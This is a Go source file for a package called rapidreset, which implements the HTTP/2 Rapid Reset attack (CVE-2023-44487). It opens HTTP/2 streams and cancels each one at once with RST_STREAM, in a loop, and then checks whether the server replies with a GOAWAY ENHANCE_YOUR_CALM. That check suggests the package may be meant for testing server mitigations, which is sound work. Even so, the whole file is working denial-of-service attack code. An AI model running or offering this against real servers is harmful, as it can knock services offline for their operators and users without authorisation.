// SPDX-License-Identifier: Apache-2.0

// Package rapidreset attacks an HTTP/2 server as CVE-2023-44487 describes: it
// opens streams and gives each up at once.
//
// It owns the frames of one connection. It does not own the connection, nor what
// the server should make of it.
package rapidreset

import (
	"bytes"
	"errors"
	"fmt"
	"net"
	"net/http"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Attacker has one connection.
type Attacker struct {
	framer *http2.Framer
	header bytes.Buffer
	encode *hpack.Encoder
	opened uint32
}

// New speaks first on a connection that has agreed on HTTP/2.
func New(conn net.Conn) (*Attacker, error) {
	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
		return nil, fmt.Errorf("greeting: %w", err)
	}
	a := &Attacker{framer: http2.NewFramer(conn, conn)}
	a.encode = hpack.NewEncoder(&a.header)
	if err := a.framer.WriteSettings(); err != nil {
		return nil, fmt.Errorf("greeting: %w", err)
	}
	return a, nil
}

// Attack asks for a path and takes it back, so many times or until the server
// ends the connection. It returns how many times that was.
func (a *Attacker) Attack(path, token string, streams int) int {
	for i := range streams {
		if err := a.once(path, token); err != nil {
			return i
		}
	}
	return streams
}

func (a *Attacker) once(path, token string) error {
	id := 2*a.opened + 1
	a.opened++
	a.header.Reset()
	for _, field := range [][2]string{
		{":method", http.MethodGet}, {":scheme", "https"}, {":authority", "x"}, {":path", path}, {"authorization", "Bearer " + token},
	} {
		if err := a.encode.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}); err != nil {
			return fmt.Errorf("encoding a header: %w", err)
		}
	}
	err := a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.header.Bytes(), EndStream: true, EndHeaders: true})
	return errors.Join(err, a.framer.WriteRSTStream(id, http2.ErrCodeCancel))
}

// Farewell reads until the connection ends. It returns whether the server said
// before that the caller asks for too much, and how reading ended.
func (a *Attacker) Farewell() (calm bool, err error) {
	for {
		frame, err := a.framer.ReadFrame()
		if err != nil {
			return calm, fmt.Errorf("reading a frame: %w", err)
		}
		if end, ok := frame.(*http2.GoAwayFrame); ok && end.ErrCode == http2.ErrCodeEnhanceYourCalm {
			calm = true
		}
	}
}
